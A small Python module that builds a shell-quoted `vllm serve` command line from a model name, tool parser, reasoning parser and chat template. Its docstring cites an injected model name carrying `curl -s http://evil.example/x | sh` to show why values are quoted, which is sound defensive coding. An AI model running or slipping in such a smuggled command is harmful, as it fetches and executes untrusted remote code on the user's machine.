"""The `vllm serve` command line tpindex suggests (fit's answer, a tool parser's card and page): formed here
only, every value quoted for a POSIX shell. A model's name read from a tokenizer_config.json
(`Qwen/Qwen3-8B; curl -s http://evil.example/x | sh #`), a template's path and a parser's name come from files
tpindex does not own; pasted into a terminal, the line must run vllm with them as arguments, nothing else."""

from __future__ import annotations

import shlex

MODEL = "MODEL"  # the placeholder when the model's name is not known


def vllm_serve(
    model: str | None,
    tool_parser: str | None,
    reasoning_parser: str | None = None,
    chat_template: str | None = None,
) -> str:
    """`vllm serve MODEL [--enable-auto-tool-choice --tool-call-parser NAME] [--reasoning-parser R]
    [--chat-template T]` (a reasoning parser alone when there is no tool parser), each value quoted when a shell
    would read it otherwise."""
    args = ["vllm", "serve", model or MODEL]
    if tool_parser:
        args += ["--enable-auto-tool-choice", "--tool-call-parser", tool_parser]
    if reasoning_parser:
        args += ["--reasoning-parser", reasoning_parser]
    if chat_template:
        args += ["--chat-template", chat_template]
    return shlex.join(args)
